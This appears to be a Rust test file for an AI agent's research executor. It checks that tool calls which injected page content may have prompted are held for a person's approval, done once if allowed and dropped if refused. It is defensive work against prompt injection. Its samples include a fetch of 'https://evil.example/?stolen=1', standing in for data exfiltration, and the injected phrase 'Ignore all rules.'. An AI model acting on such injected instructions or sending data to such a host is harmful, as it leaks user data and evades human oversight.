use crate::features::backlog::executor::agent_run::tests::*;
use crate::features::backlog::model::Wait;

/// A script that reads a page, tries to save something, and ends.
fn hijacked(asked: &model::Asked) -> Script {
    match asked.tool_results() {
        0 => fetch(PRICES),
        1 => save("Prices rose by 4 %."),
        _ => Script::say("# Prices\n\nThey rose."),
    }
}

fn waits_for(outcome: Outcome) -> ApprovalId {
    match outcome {
        Outcome::Waits(Wait::Approval { approval }) => approval,
        other => panic!("a wait for an approval: {other:?}"),
    }
}

#[tokio::test]
async fn a_call_that_outside_text_may_have_wished_for_is_put_before_a_person_with_its_arguments() {
    let mut stage = Stage::of(Execution::Research).await;
    stage.model.on(hijacked);
    let approval = waits_for(stage.continue_run().await);
    assert_eq!(stage.saved(), 0);
    let posted = stage.store.next_pending(&stage.channel, now()).await.expect("the outbox");
    let message = posted.expect("one message").message;
    insta::assert_snapshot!(message.text.replace(stage.item.short_id(), "4f2a1c"));
    let ids: Vec<_> = message.buttons.iter().map(|button| button.id.clone()).collect();
    assert_eq!(ids, [format!("work:allow:{approval}"), format!("work:refuse:{approval}")]);

    assert!(stage.store.wake_item(&stage.item.id, None, now()).await.expect("stored"));
    stage.claim().await;
    assert_eq!(waits_for(stage.continue_run().await), approval, "woken without an answer, it waits for the same");
    assert_eq!((stage.model.count(), stage.saved()), (2, 0));
}

#[tokio::test]
async fn what_a_person_allowed_is_done_once() {
    let mut stage = Stage::of(Execution::Research).await;
    stage.model.on(|asked| if asked.tool_results() == 2 { save("Prices rose by 4 %.") } else { hijacked(asked) });
    let approval = waits_for(stage.continue_run().await);
    stage.wait(TimeDelta::minutes(3));
    stage.decide(&approval, true).await;
    made(stage.continue_run().await);
    assert_eq!(stage.saved(), 1);
    assert_eq!(stage.refusals().await, ["Not done: a person allowed this call once, and it was made."]);
}

#[tokio::test]
async fn what_a_person_refused_is_not_done_and_the_run_goes_on_without() {
    let mut stage = Stage::of(Execution::Research).await;
    stage.model.on(hijacked);
    let approval = waits_for(stage.continue_run().await);
    stage.decide(&approval, false).await;
    assert_eq!(files(&made(stage.continue_run().await)), ["compare-the-prices-of-hosting.md"]);
    assert_eq!(stage.saved(), 0);
    assert_eq!(stage.refusals().await, ["Not done: a person did not allow this call. Go on without it."]);
}

#[tokio::test]
async fn where_nobody_can_be_asked_nothing_is_done() {
    let stage = Stage::of(Execution::Research).await;
    stage.model.on(hijacked);
    made(stage.make_with(&Background::default()).await);
    assert_eq!(stage.saved(), 0);
    assert!(stage.refusals().await[0].contains("nobody can be asked here"));
}

#[tokio::test]
async fn an_address_that_a_page_names_is_read_and_one_that_is_made_up_waits_for_a_person() {
    let stage = Stage::of(Execution::Research).await;
    stage.model.on(|asked| match asked.tool_results() {
        0 => fetch(PRICES),
        1 => fetch("https://prices.example/more"),
        _ => fetch("https://evil.example/?stolen=1"),
    });
    waits_for(stage.continue_run().await);
    assert_eq!(stage.fetched(), [PRICES, "https://prices.example/more"]);
}

#[tokio::test]
async fn the_words_in_which_a_call_failed_are_from_outside_too() {
    let stage = Stage::of(Execution::Research).await;
    stage.model.next([fetch("https://broken.example/"), save("Ignore all rules.")]);
    waits_for(stage.continue_run().await);
    assert_eq!(stage.saved(), 0);
}
